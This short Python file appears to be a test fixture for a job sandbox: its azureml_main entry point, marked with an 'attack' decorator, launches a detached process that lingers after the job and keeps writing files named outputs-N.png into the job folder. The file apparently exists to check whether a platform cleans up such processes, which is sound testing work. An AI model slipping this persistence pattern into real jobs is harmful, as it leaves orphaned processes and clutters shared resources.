"""Leaves a process that keeps the folder of the job open and makes files there for ever."""

from attack import attack, detached, until


def make():
    for count in until(60):
        with open(f"outputs-{count}.png", "w") as stream:
            stream.write("hostile")


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    detached(make)
    return ""
